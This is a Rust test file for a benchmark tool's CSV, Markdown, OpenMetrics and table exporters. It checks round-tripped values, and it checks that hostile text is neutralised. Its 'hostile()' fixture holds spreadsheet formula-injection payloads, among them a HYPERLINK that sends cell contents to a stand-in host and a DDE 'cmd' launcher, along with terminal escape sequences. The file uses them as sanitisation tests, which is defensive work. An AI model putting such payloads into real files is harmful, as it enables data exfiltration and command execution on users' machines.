//! The exporters together, on a real params.json (`results/plots/params-quick.json`, a
//! quick run on the development VM): CSV and Markdown read back to the JSON values.

use super::csv::{CsvExporter, COLUMNS, DISTURBED};
use super::markdown::MarkdownExporter;
use super::Exporter;
use bench_core::params::ParamsFile;

fn sample() -> ParamsFile {
    let p =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../results/plots/params-quick.json");
    let f: ParamsFile = serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap();
    assert!(f.measurements.len() >= 2, "sample has measurements");
    f
}

fn values(m: &bench_core::params::Measurement) -> [f64; 8] {
    let d = &m.distribution;
    [d.min, d.p50, d.p90, d.p99, d.p999, d.max, d.mean, d.stdev]
}

#[test]
fn csv_reads_back_to_the_json_values() {
    let f = sample();
    let text = CsvExporter.render(&f).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header[..COLUMNS.len()], COLUMNS);
    assert_eq!(header[COLUMNS.len()..], [DISTURBED]);
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    assert_eq!(rows.len(), f.measurements.len());
    for (row, m) in rows.iter().zip(&f.measurements) {
        assert_eq!(&row[0], m.id);
        assert_eq!(&row[1], m.benchmark);
        assert_eq!(&row[2], m.target);
        assert_eq!(&row[3], m.unit);
        assert_eq!(row[4].parse::<u64>().unwrap(), m.distribution.n);
        for (i, v) in values(m).iter().enumerate() {
            let got: f64 = row[5 + i].parse().unwrap();
            let tol = v.abs() * 5e-6 + 1e-12;
            assert!(
                (got - v).abs() <= tol,
                "{} column {}: {got} vs {v}",
                m.id,
                COLUMNS[5 + i]
            );
        }
    }
}

/// The significant digits of a number as written (`97.0992` -> 6, `0.00123` -> 3).
fn significant_digits(s: &str) -> usize {
    s.trim_start_matches('-')
        .chars()
        .filter(char::is_ascii_digit)
        .skip_while(|c| *c == '0')
        .count()
}

#[test]
fn csv_gives_every_figure_of_a_row_at_one_precision() {
    let p =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/h200-quick-trimmed.json");
    let f: ParamsFile = serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap();
    let text = CsvExporter.render(&f).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let mut checked = 0;
    for row in r.records().map(|x| x.unwrap()) {
        for i in 5..COLUMNS.len() {
            let cell = &row[i];
            let v: f64 = cell.parse().unwrap();
            // Six significant digits, whatever the column: p50 as min and max; a figure
            // of seven or more integer digits is whole, zero is `0`.
            if v != 0.0 && v.abs() < 1e6 {
                assert_eq!(
                    significant_digits(cell),
                    6,
                    "{} {}: {cell}",
                    &row[0],
                    COLUMNS[i]
                );
                checked += 1;
            }
        }
    }
    assert!(checked > 1000, "{checked}");
}

/// The `disturbed` column tells each flagged figure from a clean one: `true` for every
/// measurement disturbed in every attempt (the count the summary and the report give),
/// `false` for the others, empty where no counters were recorded.
#[test]
fn csv_flags_each_disturbed_measurement() {
    let mut f = all_quick();
    f.measurements[0].counters = None;
    let (disturbed, recorded) = f.disturbed_measurements();
    assert!(
        disturbed > 0 && recorded > disturbed,
        "the guest's run has both"
    );
    let text = CsvExporter.render(&f).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let col = r
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == DISTURBED)
        .expect("a disturbed column");
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    let cells: Vec<&str> = rows.iter().map(|row| &row[col]).collect();
    assert_eq!(cells.iter().filter(|c| **c == "true").count(), disturbed);
    assert_eq!(
        cells.iter().filter(|c| **c == "false").count(),
        recorded - disturbed
    );
    assert_eq!(cells[0], "", "no counters: not known");
    for (row, m) in rows.iter().zip(&f.measurements) {
        let flagged = m.counters.as_ref().is_some_and(|c| c.disturbed);
        assert_eq!(&row[col] == "true", flagged, "{}", m.id);
    }
}

/// The guest's quick run with counters on every measurement (`results/plots`).
fn all_quick() -> ParamsFile {
    let p = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../results/plots/params-all-quick.json");
    serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap()
}

/// Every gauge says whether its key is noisy, and every measurement whose counters were
/// recorded whether it was disturbed; the labels are those the CSV and the report give.
#[test]
fn openmetrics_labels_noisy_keys_and_disturbed_measurements() {
    let mut f = all_quick();
    let noisy_key = "mem_bw_gbs@anon";
    f.param_info.get_mut(noisy_key).unwrap().noisy = Some("no clean window in 9".into());
    f.measurements[0].counters = None;
    let text = super::openmetrics::OpenMetricsExporter.render(&f).unwrap();
    let samples: Vec<&str> = text.lines().filter(|l| !l.starts_with('#')).collect();
    let gauges: Vec<&&str> = samples
        .iter()
        .filter(|l| !l.starts_with("cxlchar_measurement_"))
        .collect();
    assert!(!gauges.is_empty());
    for l in &gauges {
        let noisy = l.contains(&format!("key=\"{noisy_key}\""));
        let want = if noisy {
            ",noisy=\"true\"}"
        } else {
            ",noisy=\"false\"}"
        };
        assert!(l.contains(want), "{l}");
    }
    assert_eq!(
        gauges
            .iter()
            .filter(|l| l.contains("noisy=\"true\""))
            .count(),
        1
    );
    // Each measurement's samples carry its flag: 6 quantiles and a count (and a sum).
    let (disturbed, recorded) = f.disturbed_measurements();
    let counts = |flag: &str| {
        samples
            .iter()
            .filter(|l| l.contains("_count{") && l.contains(flag))
            .count()
    };
    assert_eq!(counts("disturbed=\"true\""), disturbed);
    assert_eq!(counts("disturbed=\"false\""), recorded - disturbed);
    let first = format!("id=\"{}\"", f.measurements[0].id);
    let unrecorded: Vec<&&str> = samples.iter().filter(|l| l.contains(&first)).collect();
    assert!(!unrecorded.is_empty());
    assert!(
        unrecorded.iter().all(|l| !l.contains("disturbed=")),
        "not recorded: no label"
    );
}

#[test]
fn csv_quotes_fields_with_commas() {
    let mut f = sample();
    f.measurements[0].id = "a,b \"c\"".into();
    let text = CsvExporter.render(&f).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let first = r.records().next().unwrap().unwrap();
    assert_eq!(&first[0], "a,b \"c\"");
}

#[test]
fn markdown_reads_back_to_the_json_values() {
    let f = sample();
    let text = MarkdownExporter.render(&f).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2 + f.measurements.len());
    let cells = |l: &str| -> Vec<String> {
        l.trim()
            .trim_matches('|')
            .split(" | ")
            .map(|c| c.trim().to_string())
            .collect()
    };
    assert_eq!(cells(lines[0]), COLUMNS);
    assert!(lines[1].starts_with("|:--|"));
    for (l, m) in lines[2..].iter().zip(&f.measurements) {
        let c = cells(l);
        assert_eq!(c.len(), COLUMNS.len(), "{l}");
        assert_eq!(c[0], m.id);
        assert_eq!(c[2], m.target);
        assert_eq!(c[4].parse::<u64>().unwrap(), m.distribution.n);
        for (i, v) in values(m).iter().enumerate() {
            let got: f64 = c[5 + i].parse().unwrap();
            let tol = v.abs() * 1e-5 + 1e-9;
            assert!((got - v).abs() <= tol, "{}: {got} vs {v}", COLUMNS[5 + i]);
        }
    }
}

#[test]
fn table_shows_hardware_counts_per_operation_when_present() {
    use bench_core::counters::{Counts, MeasurementCounters};
    let mut f = sample();
    let plain = super::table::TableExporter::default().render(&f).unwrap();
    assert!(!plain.contains("counters per operation"));
    let c = MeasurementCounters {
        counts: Counts {
            llc_load_misses: Some(250),
            ..Counts::default()
        },
        attempts: 1,
        ..MeasurementCounters::default()
    }
    .with_per_op("load", 1000);
    f.measurements[0].counters = Some(c);
    let t = super::table::TableExporter::default().render(&f).unwrap();
    assert!(t.contains("counters per operation:"));
    assert!(t.contains("llc_load_misses_per_load 0.250"), "{t}");
}

/// A params file as a stranger may write it: a formula, an ANSI escape sequence, a line
/// break and a bidi override in target names, ids, keys, the CPU model, a skipped reason
/// and a warning; and a target that is a plain negative number.
fn hostile() -> ParamsFile {
    let mut f = sample();
    f.measurements[0].target = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")".into();
    f.measurements[0].id = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    f.measurements[1].target = "\u{1b}[2J\u{1b}[31mred\u{1b}[0m\nnext\u{202e}".into();
    f.measurements[1].id = "-1.5".into();
    f.measurements[1].benchmark = "\tmem.latency\r".into();
    f.environment.cpu.model = "cpu\u{1b}]0;owned\u{7}".into();
    f.params
        .insert("mem_lat_ns@\u{1b}[31manon\u{9b}".into(), 90.0);
    f.skipped.push(bench_core::params::Skipped {
        benchmark: "mem.loaded".into(),
        target: "\u{1b}[1Aup".into(),
        reason: "reason\u{1b}[K".into(),
    });
    f.warnings.push(bench_core::params::Warning {
        code: "x".into(),
        message: "warn\u{1b}c".into(),
        remediation: "fix\u{1b}[H".into(),
    });
    f
}

fn assert_no_control(text: &str, what: &str) {
    for l in text.lines() {
        assert!(
            !l.chars().any(crate::output::text::is_unsafe),
            "{what}: a control character in {l:?}"
        );
    }
}

#[test]
fn csv_neutralises_formulas_and_escapes_control_characters() {
    let f = hostile();
    let text = CsvExporter.render(&f).unwrap();
    assert_no_control(&text, "csv");
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    assert_eq!(rows.len(), f.measurements.len(), "one row per measurement");
    assert_eq!(&rows[0][2], "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")");
    assert_eq!(&rows[0][0], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(
        &rows[1][2],
        "\\x1b[2J\\x1b[31mred\\x1b[0m\\x0anext\\u{202e}"
    );
    assert_eq!(&rows[1][1], "'\\x09mem.latency\\x0d");
    // A plain number stays that number, and the numeric columns stay bare numbers.
    assert_eq!(&rows[1][0], "-1.5");
    assert!(text.starts_with(&format!("{},{DISTURBED}\n", COLUMNS.join(","))));
    for l in text.lines().skip(1) {
        assert!(l.starts_with('"') || l.starts_with("-1.5,"), "{l}");
    }
    for (row, m) in rows.iter().zip(&f.measurements) {
        for (i, v) in values(m).iter().enumerate() {
            assert_eq!(row[5 + i], super::csv::number(*v));
        }
    }
    // Every text cell is quoted; no cell of the file starts a formula unquoted.
    for l in text.lines() {
        for c in ['=', '+', '@', '\t', '\r'] {
            assert!(!l.starts_with(c) && !l.contains(&format!(",{c}")), "{l}");
        }
    }
}

#[test]
fn text_cells_keep_plain_numbers_and_neutralise_the_rest() {
    use super::csv::text_cell;
    for n in ["-1.5", "+3", "2e-9", "-0", "42"] {
        assert_eq!(text_cell(n), n);
    }
    for (s, want) in [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("-inf", "'-inf"),
        ("@A1", "'@A1"),
        ("\t=1", "'\\x09=1"),
        ("\r=1", "'\\x0d=1"),
        ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
        ("node:1", "node:1"),
        ("a=b", "a=b"),
    ] {
        assert_eq!(text_cell(s), want, "{s:?}");
    }
}

#[test]
fn markdown_escapes_control_characters() {
    let text = MarkdownExporter.render(&hostile()).unwrap();
    assert_no_control(&text, "markdown");
    assert!(text.contains("\\x1b[2J"), "{text}");
}

#[test]
fn openmetrics_escapes_control_characters_in_labels_and_help() {
    let text = super::openmetrics::OpenMetricsExporter
        .render(&hostile())
        .unwrap();
    assert_no_control(&text, "openmetrics");
    assert!(
        text.contains("target=\"\\\\x1b[2J\\\\x1b[31mred\\\\x1b[0m\\\\x0anext\\\\u{202e}\""),
        "{text}"
    );
    assert!(
        text.contains("key=\"mem_lat_ns@\\\\x1b[31manon\\\\u{9b}\""),
        "{text}"
    );
}

#[test]
fn the_table_escapes_control_characters_and_keeps_one_row_per_line() {
    let f = hostile();
    let text = super::table::TableExporter::default().render(&f).unwrap();
    assert_no_control(&text, "table");
    assert!(text.contains("cpu\\x1b]0;owned\\x07"), "{text}");
    assert!(text.contains("reason\\x1b[K"), "{text}");
    assert!(text.contains("warn\\x1bc"), "{text}");
    assert!(text.contains("fix\\x1b[H"), "{text}");
    // The row of the measurement with a line break in its target is one line.
    let rows: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.starts_with("measurement "))
        .skip(1)
        .take_while(|l| !l.is_empty())
        .collect();
    assert_eq!(rows.len(), f.measurements.len(), "{text}");
}

#[test]
fn openmetrics_writes_one_series_per_measured_value() {
    let p =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/h200-quick-trimmed.json");
    let f: ParamsFile = serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap();
    assert_eq!(
        f.params.get("mem_lat_ns"),
        f.params.get("mem_lat_ns@anon"),
        "the file names the first target's figure both ways"
    );
    let text = super::openmetrics::OpenMetricsExporter.render(&f).unwrap();
    // (family, target) of every gauge sample: each once, so sum() by target counts each
    // figure once.
    let mut seen = std::collections::BTreeSet::new();
    let mut series = 0;
    for l in text.lines().filter(|l| !l.starts_with('#')) {
        let (name, rest) = l.split_once('{').unwrap();
        if name.starts_with("cxlchar_measurement_") {
            continue;
        }
        let target = rest
            .split("target=\"")
            .nth(1)
            .unwrap()
            .split('"')
            .next()
            .unwrap();
        assert!(
            seen.insert((name, target)),
            "two series of {name} on {target}:\n{l}"
        );
        series += 1;
    }
    let lat: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("cxlchar_mem_lat_ns{"))
        .collect();
    assert_eq!(lat.len(), 1, "{lat:?}");
    assert!(
        lat[0].contains("key=\"mem_lat_ns@anon\",target=\"anon\""),
        "{lat:?}"
    );
    let twins = f
        .params
        .keys()
        .filter(|k| crate::consumers::keys::repeats_bare(&f, k))
        .count();
    assert!(twins > 10, "{twins}");
    assert_eq!(series, f.params.len() - twins);
}
